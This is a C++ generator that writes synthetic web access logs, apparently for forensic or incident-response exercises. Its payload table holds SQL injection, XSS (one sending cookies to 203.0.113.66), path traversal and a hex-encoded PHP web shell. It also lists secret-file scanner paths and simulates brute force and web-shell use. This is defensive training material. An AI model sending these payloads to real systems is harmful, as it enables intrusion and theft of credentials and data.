// access-log: a day of one web site's access log in combined format (docs/evidence.md#access-log).
#include <algorithm>
#include <memory>

#include <fmt/format.h>

#include "generate/generators.hpp"
#include "generate/support.hpp"

namespace infuse::gen {

namespace {

struct Page {
    std::string path;
    std::int64_t bytes;
};

const std::vector<Page> kPages{
    {"/", 48211}, {"/about/", 31877}, {"/team/", 35002}, {"/contact/", 27415}, {"/donate/", 29931},
    {"/news/", 44150}, {"/publications/", 40988}, {"/events/", 33761}, {"/jobs/", 22510}, {"/privacy/", 19804},
    {"/2024/03/press-freedom-report/", 61873}, {"/2024/03/digital-safety-clinic/", 39544},
    {"/2024/02/community-radio-training/", 42710}, {"/2024/02/open-letter-on-shutdowns/", 45388},
    {"/2024/01/annual-report-2023/", 52096}, {"/2023/12/grants-for-local-media/", 41220},
    {"/2023/11/election-monitoring-guide/", 58302}, {"/2023/10/secure-messaging-basics/", 37129},
    {"/fr/", 47903}, {"/fr/a-propos/", 30544}, {"/es/", 46811}, {"/search/?q=report", 28410},
    {"/feed/", 12877}, {"/category/training/", 38019}, {"/tag/privacy/", 36654},
};

const std::vector<Page> kAssets{
    {"/wp-content/themes/civic/style.css", 38211}, {"/wp-content/themes/civic/js/site.js", 12044},
    {"/wp-includes/js/jquery/jquery.min.js", 87533}, {"/wp-content/uploads/2024/03/cover.jpg", 184220},
    {"/wp-content/uploads/2024/02/radio-workshop.jpg", 142871}, {"/wp-content/themes/civic/fonts/inter.woff2", 48256},
    {"/favicon.ico", 5430}, {"/wp-content/uploads/2024/01/report-chart.png", 96310},
};

const std::vector<std::string> kBrowsers{
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.105 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.178 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.80",
};

const std::vector<std::string> kScannerPaths{
    "/.git/config", "/.git/HEAD", "/.env", "/.env.bak", "/.svn/entries", "/.htaccess", "/.htpasswd", "/.DS_Store",
    "/backup.zip", "/backup.tar.gz", "/site.tar.gz", "/db.sql", "/dump.sql", "/database.sql", "/wp-config.php.bak",
    "/wp-config.php~", "/wp-config.old", "/config.php.bak", "/phpinfo.php", "/info.php", "/test.php", "/admin/",
    "/administrator/", "/phpmyadmin/", "/pma/", "/server-status", "/.vscode/sftp.json", "/.aws/credentials",
    "/composer.json", "/composer.lock", "/package.json", "/.idea/workspace.xml", "/web.config", "/config.json",
    "/robots.txt", "/sitemap.xml.bak", "/old/", "/backup/", "/wp-content/debug.log", "/.well-known/security.txt",
};

struct PayloadKind {
    std::string_view name;
    std::string_view target;
    std::vector<std::string> payloads;
};

const std::vector<PayloadKind> kPayloads{
    {"sqli", "/news.php?id=",
     {"1%27%20OR%20%271%27=%271", "1%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--",
      "1%27%20AND%20SLEEP(5)--%20-", "1)%20AND%201=CONVERT(int,(SELECT%20@@version))--",
      "-1%20UNION%20ALL%20SELECT%20NULL,NULL,table_name%20FROM%20information_schema.tables--",
      "1%27;DROP%20TABLE%20wp_posts;--", "1%20AND%20extractvalue(1,concat(0x7e,database()))"}},
    {"xss", "/search/?q=",
     {"%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Csvg/onload=alert(document.domain)%3E",
      "%3Cimg%20src=x%20onerror=fetch(%27//203.0.113.66/c?%27+document.cookie)%3E",
      "javascript:alert(String.fromCharCode(88,83,83))", "%3Ciframe%20src=javascript:alert(1)%3E",
      "%27-alert(1)-%27"}},
    {"traversal", "/download.php?file=",
     {"../../../../etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "....//....//....//etc/passwd",
      "..%252f..%252f..%252fetc%252fshadow", "/var/www/html/wp-config.php", "..\\..\\..\\windows\\win.ini",
      "php://filter/convert.base64-encode/resource=wp-config.php"}},
    {"hex", "/index.php?page=",
     {"\\x27\\x20OR\\x20\\x271\\x27=\\x271", "\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E",
      "\\x2E\\x2E\\x2F\\x2E\\x2E\\x2F\\x2E\\x2E\\x2Fetc\\x2Fpasswd",
      "\\x75\\x6E\\x69\\x6F\\x6E\\x20\\x73\\x65\\x6C\\x65\\x63\\x74\\x20\\x31",
      "\\x3C\\x3Fphp\\x20system(\\x24_GET[\\x22c\\x22]);\\x3F\\x3E",
      "\\x2Fbin\\x2Fsh\\x20-c\\x20id", "\\x22\\x3E\\x3Csvg\\x20onload=alert(1)\\x3E"}},
};

struct Request {
    std::string ip;
    std::string method = "GET";
    std::string path;
    int status = 200;
    std::int64_t bytes = 0;
    std::string referrer = "-";
    std::string agent;
};

std::string format_request(const Frame& frame, std::int64_t micros, const Request& r) {
    const std::string bytes = r.status == 304 || r.bytes <= 0 ? std::string("-") : std::to_string(r.bytes);
    return fmt::format("{} - - [{}] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"", r.ip, format_clf(frame.at(micros)),
                       r.method, r.path, r.status, bytes, r.referrer, r.agent);
}

// Ordinary traffic: one time slot per line, so lines come in order whatever their number.
class Background : public LineSource {
public:
    Background(const Frame& frame, Rng rng, std::int64_t lines, std::vector<std::string> clients, std::string site,
               std::string crawler)
        : frame_(frame), rng_(std::move(rng)), lines_(lines), clients_(std::move(clients)), site_(std::move(site)),
          crawler_(std::move(crawler)) {
        slot_ = lines_ > 0 ? std::max<std::int64_t>(frame_.span_micros / lines_, 1) : 1;
        for (std::size_t i = 0; i < clients_.size(); ++i) agents_.push_back(rng_.below(kBrowsers.size()));
    }

    bool next(Line& line) override {
        if (index_ >= lines_) return false;
        if (session_left_ == 0) start_session();
        Request request = session_page_;
        if (session_left_ != session_size_) {  // an asset of the page
            const Page& asset = rng_.pick(kAssets);
            request.path = asset.path;
            request.referrer = fmt::format("https://{}{}", site_, session_page_.path);
            request.status = rng_.chance(150) ? 304 : 200;
            request.bytes = asset.bytes;
        }
        // A page's assets follow it within a second; each line still uses up one slot, so the
        // next session (a later slot) always comes after this one's last line.
        const bool first = session_left_ == session_size_;
        --session_left_;
        session_time_ = first ? frame_.start_micros + index_ * slot_ + static_cast<std::int64_t>(rng_.below(std::max<std::int64_t>(slot_ / 2, 1)))
                              : session_time_ + rng_.jittered(std::max<std::int64_t>(std::min<std::int64_t>(700'000, slot_ / 4), 1));
        const std::int64_t micros = session_time_;
        ++index_;
        line.micros = micros;
        line.text = format_request(frame_, micros, request);
        return true;
    }

private:
    void start_session() {
        Request page;
        const Page& chosen = rng_.pick(kPages);
        page.path = chosen.path;
        page.bytes = chosen.bytes + rng_.between(-400, 400);
        if (!crawler_.empty() && rng_.chance(120)) {
            page.ip = crawler_;
            page.agent = "Mozilla/5.0 (compatible; Examplebot/2.1; +https://search.example/bot.html)";
            if (rng_.chance(30)) {
                page.path = "/robots.txt";
                page.bytes = 412;
            }
            session_page_ = page;
            session_size_ = session_left_ = 1;
            return;
        }
        // Few clients visit a lot, most visit a little.
        const std::size_t client = rng_.below(rng_.below(clients_.size()) + 1);
        page.ip = clients_[client];
        page.agent = kBrowsers[agents_[client]];
        const auto referrer = rng_.below(10);
        page.referrer = referrer < 4   ? "-"
                        : referrer < 7 ? fmt::format("https://www.search.example/search?q={}", rng_.chance(500) ? "civic+voice" : "press+freedom+report")
                        : referrer < 9 ? fmt::format("https://{}{}", site_, rng_.pick(kPages).path)
                                       : std::string("https://social.example/");
        if (rng_.chance(15)) {
            page.path = fmt::format("/2022/0{}/old-article-{}/", 1 + rng_.below(9), rng_.between(10, 99));
            page.status = 404;
            page.bytes = 7841;
        } else if (rng_.chance(10)) {
            page.path = page.path.size() > 1 && page.path.back() == '/' ? page.path.substr(0, page.path.size() - 1) : page.path;
            page.status = 301;
            page.bytes = 0;
        }
        session_page_ = page;
        session_size_ = page.status == 200 ? 1 + static_cast<int>(rng_.below(4)) : 1;
        session_size_ = static_cast<int>(std::min<std::int64_t>(session_size_, lines_ - index_));
        session_left_ = session_size_;
    }

    Frame frame_;
    Rng rng_;
    std::int64_t lines_, slot_ = 1, index_ = 0;
    std::vector<std::string> clients_;
    std::vector<std::size_t> agents_;
    std::string site_, crawler_;
    Request session_page_;
    int session_size_ = 0, session_left_ = 0;
    std::int64_t session_time_ = 0;
};

// The uptime monitor: GET / every five minutes.
std::unique_ptr<LineSource> monitor_source(const Frame& frame, Rng rng, std::string ip) {
    auto next_time = std::make_shared<std::int64_t>(frame.start_micros + 60'000'000);
    auto random = std::make_shared<Rng>(std::move(rng));
    return std::make_unique<BatchSource>([frame, next_time, random, ip](std::deque<Line>& out) {
        if (*next_time >= frame.start_micros + frame.span_micros) return false;
        Request r{ip, "GET", "/", 200, 48211 + random->between(-300, 300), "-", "curl/7.88.1"};
        const std::int64_t micros = *next_time + static_cast<std::int64_t>(random->below(2'000'000));
        out.push_back({micros, format_request(frame, micros, r)});
        *next_time += 300'000'000;
        return true;
    });
}

// One incident: a script of requests, produced one step at a time.
class Incident {
public:
    Incident(const Frame& frame, Rng rng, const Options& options, std::vector<std::string> default_agents)
        : frame_(frame), rng_(std::move(rng)), ip_(options.required_text("ip")), time_(read_at(options, frame)) {
        agents_ = options.has("agent") ? options.texts("agent", {}) : options.texts("agents", std::move(default_agents));
    }
    virtual ~Incident() = default;
    // Appends the next request(s); false when the incident is over.
    virtual bool step(std::deque<Line>& out) = 0;

protected:
    void emit(std::deque<Line>& out, std::string method, std::string path, int status, std::int64_t bytes,
              std::string referrer = "-") {
        Request r{ip_, std::move(method), std::move(path), status, bytes, std::move(referrer), rng_.pick(agents_)};
        out.push_back({time_, format_request(frame_, time_, r)});
    }
    void wait(std::int64_t seconds) { time_ += rng_.jittered(seconds * 1'000'000); }
    void wait_micros(std::int64_t micros) { time_ += micros; }

    Frame frame_;
    Rng rng_;
    std::string ip_;
    std::int64_t time_;
    std::vector<std::string> agents_;
};

class LoginBruteforce : public Incident {
public:
    LoginBruteforce(const Frame& frame, Rng rng, const Options& o, std::string site)
        : Incident(frame, std::move(rng), o, {"python-requests/2.31.0", "Go-http-client/1.1", "curl/8.5.0"}),
          path_(o.text("path", "/wp-login.php")), attempts_(o.integer("attempts", 300, 1, 1'000'000)),
          success_(o.flag("success", true)), interval_(o.integer("interval", 3, 1, 86400)),
          referrer_(fmt::format("https://{}{}", site, path_)) {}
    bool step(std::deque<Line>& out) override {
        const std::int64_t n = step_++;
        if (n == 0) emit(out, "GET", path_, 200, 4387);
        else if (n <= attempts_) emit(out, "POST", path_, 200, 4521 + rng_.between(-30, 30), referrer_);
        else if (!success_) return false;
        else if (n == attempts_ + 1) emit(out, "POST", path_, 302, 0, referrer_);
        else if (n == attempts_ + 2) emit(out, "GET", "/wp-admin/", 200, 61233, referrer_);
        else if (n == attempts_ + 3) emit(out, "GET", "/wp-admin/plugin-install.php?tab=upload", 200, 40129, "-");
        else if (n == attempts_ + 4) emit(out, "POST", "/wp-admin/update.php?action=upload-plugin", 200, 3318, "-");
        else if (n == attempts_ + 5) emit(out, "GET", "/wp-content/plugins/wp-cachetools/cct.php?c=id", 200, 54, "-");
        else return false;
        wait(n <= attempts_ ? interval_ : 20);
        return true;
    }

private:
    std::string path_;
    std::int64_t attempts_;
    bool success_;
    std::int64_t interval_;
    std::string referrer_;
    std::int64_t step_ = 0;
};

class Login : public Incident {
public:
    Login(const Frame& frame, Rng rng, const Options& o, std::string site)
        : Incident(frame, std::move(rng), o, {kBrowsers[0]}), failures_(o.integer("failures", 0, 0, 100)),
          referrer_(fmt::format("https://{}/wp-login.php", site)) {
        if (!o.has("agent") && !o.has("agents")) agents_ = {rng_.pick(kBrowsers)};
    }
    bool step(std::deque<Line>& out) override {
        const std::int64_t n = step_++;
        if (n == 0) emit(out, "GET", "/wp-login.php", 200, 4387);
        else if (n <= failures_) emit(out, "POST", "/wp-login.php", 200, 4530, referrer_);
        else if (n == failures_ + 1) emit(out, "POST", "/wp-login.php", 302, 0, referrer_);
        else if (n == failures_ + 2) emit(out, "GET", "/wp-admin/", 200, 61233, referrer_);
        else if (n == failures_ + 3) emit(out, "GET", "/wp-admin/edit.php", 200, 52870, "-");
        else return false;
        wait(n <= failures_ ? 12 : 4);
        return true;
    }

private:
    std::int64_t failures_;
    std::string referrer_;
    std::int64_t step_ = 0;
};

class XmlrpcBruteforce : public Incident {
public:
    XmlrpcBruteforce(const Frame& frame, Rng rng, const Options& o)
        : Incident(frame, std::move(rng), o, {"Mozilla/5.0 (Windows NT 6.1; rv:34.0) Gecko/20100101 Firefox/34.0"}),
          requests_(o.integer("requests", 100, 1, 1'000'000)), interval_(o.integer("interval", 20, 1, 86400)) {}
    bool step(std::deque<Line>& out) override {
        const std::int64_t n = step_++;
        if (n == 0) emit(out, "GET", "/xmlrpc.php", 405, 42);
        else if (n <= requests_) emit(out, "POST", "/xmlrpc.php", 200, 412 + rng_.between(0, 300));
        else return false;
        wait(interval_);
        return true;
    }

private:
    std::int64_t requests_, interval_, step_ = 0;
};

// A directory brute-forcer's words (gobuster, dirb): `guesses` paths are made from them.
const std::vector<std::string> kGuessWords{
    "admin", "backup", "old", "new", "test", "dev", "staging", "api", "private", "secret", "config", "uploads",
    "files", "data", "db", "sql", "logs", "tmp", "cgi-bin", "panel", "cms", "portal", "login", "user", "members",
    "download", "downloads", "archive", "site", "www", "web", "shop", "store", "include", "includes", "lib",
    "assets", "static", "media", "images", "img", "css", "js", "docs", "export", "import", "install", "setup"};

class Scanner : public Incident {
public:
    Scanner(const Frame& frame, Rng rng, const Options& o)
        : Incident(frame, std::move(rng), o, {"Mozilla/5.0 (compatible; FileHunter/0.9)"}),
          paths_(o.texts("paths", o.has("guesses") ? std::vector<std::string>{} : kScannerPaths)),
          interval_(o.integer("interval", 1, 1, 86400)) {
        // Guessed paths, all distinct: a word, a word with a suffix, or a file name.
        const std::int64_t guesses = o.integer("guesses", 0, 0, 1'000'000);
        static const std::vector<std::string> suffixes{"", "1", "2", "_old", "-bak", "2023", "2024", ".php", ".zip", ".txt"};
        for (std::int64_t i = 0; i < guesses; ++i) {
            const std::size_t word = static_cast<std::size_t>(i) % kGuessWords.size();
            const std::size_t round = static_cast<std::size_t>(i) / kGuessWords.size();
            const std::string& suffix = suffixes[round % suffixes.size()];
            std::string path = "/" + kGuessWords[word] + suffix;
            if (round >= suffixes.size()) path = fmt::format("/{}{}", kGuessWords[word], round);
            if (suffix.empty() || suffix[0] != '.') path += "/";
            paths_.push_back(std::move(path));
        }
        // A word list goes fast: four guesses a second unless the lab says otherwise.
        interval_micros_ = o.has("interval") ? interval_ * 1'000'000 : (guesses > 0 ? 250'000 : 1'000'000);
    }
    bool step(std::deque<Line>& out) override {
        if (index_ >= paths_.size()) return false;
        const std::string& path = paths_[index_++];
        const bool hidden = path.starts_with("/.git/") || path.starts_with("/.svn/") || path.starts_with("/.ht");
        if (hidden) emit(out, "GET", path, 403, 199);
        else if (path == "/robots.txt") emit(out, "GET", path, 200, 412);
        else emit(out, "GET", path, 404, 196);
        time_ += rng_.jittered(interval_micros_);
        return true;
    }

private:
    std::vector<std::string> paths_;
    std::int64_t interval_, interval_micros_ = 1'000'000;
    std::size_t index_ = 0;
};

// A comment spammer: the post, then a POST of a comment, answered 302 (held for moderation) or
// 409 (a duplicate WordPress refuses).
class CommentSpam : public Incident {
public:
    CommentSpam(const Frame& frame, Rng rng, const Options& o, std::string site)
        : Incident(frame, std::move(rng), o, {kBrowsers[1]}), comments_(o.integer("comments", 50, 1, 1'000'000)),
          interval_(o.integer("interval", 30, 1, 86400)), site_(std::move(site)) {}
    bool step(std::deque<Line>& out) override {
        if (index_ >= comments_ * 2) return false;
        if (index_ % 2 == 0) {
            post_ = kPages[10 + rng_.below(8)].path;
            emit(out, "GET", post_, 200, 40000 + rng_.between(0, 9000));
            wait_micros(2'000'000 + static_cast<std::int64_t>(rng_.below(3'000'000)));
        } else {
            emit(out, "POST", "/wp-comments-post.php", rng_.chance(800) ? 302 : 409, 0, fmt::format("https://{}{}", site_, post_));
            wait(interval_);
        }
        ++index_;
        return true;
    }

private:
    std::int64_t comments_, interval_, index_ = 0;
    std::string site_, post_;
};

// A program polling one path all day (a feed reader, a link checker): every `interval` seconds.
class Poller : public Incident {
public:
    Poller(const Frame& frame, Rng rng, const Options& o)
        : Incident(frame, std::move(rng), o, {"FeedFetcher/3.2 (+https://reader.example/bot)"}), path_(o.text("path", "/feed/")),
          method_(o.text("method", "GET")), interval_(o.integer("interval", 900, 1, 86400)),
          requests_(o.integer("requests", 0, 0, 10'000'000)), bytes_(o.integer("bytes", 12877, 0, 1'000'000'000)) {
        if (method_ != "GET" && method_ != "HEAD" && method_ != "POST") throw OptionError(fmt::format("{}: '{}' is not GET, HEAD or POST", o.field("method"), method_));
    }
    bool step(std::deque<Line>& out) override {
        if (requests_ > 0 ? index_ >= requests_ : time_ >= frame_.start_micros + frame_.span_micros) return false;
        emit(out, method_, path_, 200, method_ == "HEAD" ? 0 : bytes_);
        wait(interval_);
        ++index_;
        return true;
    }

private:
    std::string path_, method_;
    std::int64_t interval_, requests_, bytes_, index_ = 0;
};

class Injection : public Incident {
public:
    Injection(const Frame& frame, Rng rng, const Options& o)
        : Incident(frame, std::move(rng), o, {kBrowsers[5]}), count_(o.integer("count", 30, 1, 1'000'000)),
          interval_(o.integer("interval", 4, 1, 86400)) {
        for (const auto& name : o.texts("payloads", {"sqli", "xss", "traversal"})) {
            const PayloadKind* found = nullptr;
            for (const auto& kind : kPayloads) {
                if (kind.name == name) found = &kind;
            }
            if (!found) throw OptionError(fmt::format("{}: '{}' is not a payload kind (sqli, xss, traversal, hex)", o.field("payloads"), name));
            kinds_.push_back(found);
        }
    }
    bool step(std::deque<Line>& out) override {
        if (index_ >= count_) return false;
        const PayloadKind& kind = *kinds_[static_cast<std::size_t>(index_) % kinds_.size()];
        const std::string& payload = kind.payloads[rng_.below(kind.payloads.size())];
        static const std::vector<int> statuses{200, 200, 403, 404, 500};
        const int status = rng_.pick(statuses);
        emit(out, "GET", fmt::format("{}{}", kind.target, payload), status, status == 200 ? 9120 : status == 500 ? 611 : 199);
        ++index_;
        wait(interval_);
        return true;
    }

private:
    std::int64_t count_, interval_, index_ = 0;
    std::vector<const PayloadKind*> kinds_;
};

// A burst from one address: `requests` spread evenly over `seconds`, or with `per_minute` that
// many in each successive minute, at seeded random moments within it.
class Flood : public Incident {
public:
    Flood(const Frame& frame, Rng rng, const Options& o)
        : Incident(frame, std::move(rng), o, {kBrowsers[0]}), requests_(o.integer("requests", 5000, 1, 10'000'000)),
          seconds_(o.integer("seconds", 120, 1, 86400)), path_(o.text("path", "/")), vary_(o.flag("vary", false)),
          per_minute_(o.integers("per_minute", {}, 0, 1'000'000)), start_(time_) {
        if (o.has("per_minute")) {
            if (o.has("requests") || o.has("seconds")) {
                throw OptionError(fmt::format("{}: give either per_minute or requests and seconds, not both", o.field("per_minute")));
            }
            requests_ = 0;
            for (auto n : per_minute_) requests_ += n;
            if (requests_ == 0) throw OptionError(fmt::format("{}: no request in any minute", o.field("per_minute")));
        }
    }
    bool step(std::deque<Line>& out) override {
        if (index_ >= requests_) return false;
        if (per_minute_.empty()) {
            time_ = start_ + index_ * seconds_ * 1'000'000 / requests_;
        } else {
            while (moments_.empty()) {  // the next minute that has requests: its moments, in order
                const std::int64_t minute_start = start_ + static_cast<std::int64_t>(minute_) * 60'000'000;
                for (std::int64_t i = 0; i < per_minute_[minute_]; ++i) moments_.push_back(minute_start + static_cast<std::int64_t>(rng_.below(60'000'000)));
                std::sort(moments_.begin(), moments_.end());
                ++minute_;
            }
            time_ = moments_.front();
            moments_.pop_front();
        }
        const bool overloaded = index_ * 3 >= requests_ * 2;
        std::string path = path_;
        if (vary_) path += fmt::format("{}{}", rng_.pick(kFloodWords), rng_.below(100000));
        emit(out, "GET", std::move(path), overloaded ? 503 : 200, overloaded ? 299 : 48211);
        ++index_;
        return true;
    }

private:
    static inline const std::vector<std::string> kFloodWords{"surveillance", "shutdown", "vpn", "report", "privacy",
                                                             "spyware", "censorship", "encryption"};
    std::int64_t requests_, seconds_;
    std::string path_;
    bool vary_;
    std::vector<std::int64_t> per_minute_;
    std::int64_t start_, index_ = 0;
    std::size_t minute_ = 0;
    std::deque<std::int64_t> moments_;
};

// A scripted visit: `steps`, each a request with its own path, method, status and size, `after`
// seconds after the one before (default: `interval`, drawn around it like other incidents' gaps).
class Script : public Incident {
public:
    Script(const Frame& frame, Rng rng, const Options& o)
        : Incident(frame, std::move(rng), o, {kBrowsers[1]}), interval_(o.integer("interval", 1, 1, 86400)) {
        if (!o.has("steps")) throw OptionError(fmt::format("{}: required", o.field("steps")));
        const auto& list = o.raw("steps");
        if (!list.is_array() || list.empty()) throw OptionError(fmt::format("{}: expected a non-empty list of requests", o.field("steps")));
        for (std::size_t i = 0; i < list.size(); ++i) {
            Options s(list[i], fmt::format("{}[{}]", o.field("steps"), i), {"path", "method", "status", "bytes", "after", "referrer"});
            Step step;
            step.path = s.required_text("path");
            step.method = s.text("method", "GET");
            step.status = static_cast<int>(s.integer("status", 200, 100, 599));
            step.bytes = s.integer("bytes", 0, 0, 1'000'000'000'000);
            step.after = s.has("after") ? s.integer("after", 0, 0, 86400) * 1'000'000 : -1;
            step.referrer = s.text("referrer", "-");
            if (step.method.empty() || step.method.find_first_of(" \"") != std::string::npos) {
                throw OptionError(fmt::format("{}: '{}' is not an HTTP method", s.field("method"), step.method));
            }
            for (std::size_t c = 0; c < step.path.size(); ++c) {
                if (step.path[c] == ' ' || (step.path[c] == '"' && (c == 0 || step.path[c - 1] != '\\'))) {
                    throw OptionError(fmt::format("{}: write a space as %20 and a double quote as \\\" (as Apache logs them)", s.field("path")));
                }
            }
            steps_.push_back(std::move(step));
        }
    }
    bool step(std::deque<Line>& out) override {
        if (index_ >= steps_.size()) return false;
        const Step& s = steps_[index_];
        if (index_ > 0) time_ += s.after >= 0 ? s.after : rng_.jittered(interval_ * 1'000'000);
        emit(out, s.method, s.path, s.status, s.bytes, s.referrer);
        ++index_;
        return true;
    }

private:
    struct Step {
        std::string path, method, referrer;
        int status = 200;
        std::int64_t bytes = 0, after = -1;
    };
    std::int64_t interval_;
    std::vector<Step> steps_;
    std::size_t index_ = 0;
};

}  // namespace

GenerateStats generate_access_log(const nlohmann::json& with, std::string_view seed_text, std::ostream& out) {
    const nlohmann::json empty = nlohmann::json::object();
    Options options(with.is_null() ? empty : with, "",
                    {"start", "hours", "lines", "clients", "site", "crawler", "monitor", "incidents"});
    const Frame frame = read_frame(options);
    const std::int64_t lines = options.integer("lines", 10000, 0, 100'000'000);
    const std::string site = options.text("site", "www.example.org");
    const std::string crawler = options.text("crawler", "");
    const std::string monitor = options.text("monitor", "");

    std::vector<std::unique_ptr<LineSource>> sources;
    std::set<std::string> taken{crawler, monitor};
    const auto incidents = incident_list(options);
    for (std::size_t i = 0; i < incidents.size(); ++i) {
        Options incident(incidents[i], fmt::format("incidents[{}]", i),
                         {"kind", "ip", "at", "interval", "agent", "agents", "path", "attempts", "success", "failures",
                          "requests", "paths", "payloads", "count", "seconds", "guesses", "comments", "method", "bytes",
                          "per_minute", "vary", "steps"});
        const std::string kind = incident.required_text("kind");
        Rng rng(fmt::format("{}/incident/{}", seed_text, i));
        std::shared_ptr<Incident> script;
        if (kind == "login-bruteforce") script = std::make_shared<LoginBruteforce>(frame, std::move(rng), incident, site);
        else if (kind == "login") script = std::make_shared<Login>(frame, std::move(rng), incident, site);
        else if (kind == "xmlrpc-bruteforce") script = std::make_shared<XmlrpcBruteforce>(frame, std::move(rng), incident);
        else if (kind == "scanner") script = std::make_shared<Scanner>(frame, std::move(rng), incident);
        else if (kind == "injection") script = std::make_shared<Injection>(frame, std::move(rng), incident);
        else if (kind == "flood") script = std::make_shared<Flood>(frame, std::move(rng), incident);
        else if (kind == "comment-spam") script = std::make_shared<CommentSpam>(frame, std::move(rng), incident, site);
        else if (kind == "poller") script = std::make_shared<Poller>(frame, std::move(rng), incident);
        else if (kind == "script") script = std::make_shared<Script>(frame, std::move(rng), incident);
        else {
            throw OptionError(fmt::format("{}: '{}' is not an access-log incident (login-bruteforce, login, "
                                          "xmlrpc-bruteforce, scanner, injection, flood, comment-spam, poller, script)", incident.field("kind"), kind));
        }
        taken.insert(incident.required_text("ip"));
        sources.push_back(std::make_unique<BatchSource>([script](std::deque<Line>& queue) { return script->step(queue); }));
    }
    Rng rng(fmt::format("{}/background", seed_text));
    auto clients = background_addresses(rng, static_cast<std::size_t>(options.integer("clients", 250, 1, 700)), taken);
    sources.insert(sources.begin(), std::make_unique<Background>(frame, std::move(rng), lines, std::move(clients), site, crawler));
    if (!monitor.empty()) sources.push_back(monitor_source(frame, Rng(fmt::format("{}/monitor", seed_text)), monitor));
    return merge_sources(sources, out);
}

}  // namespace infuse::gen
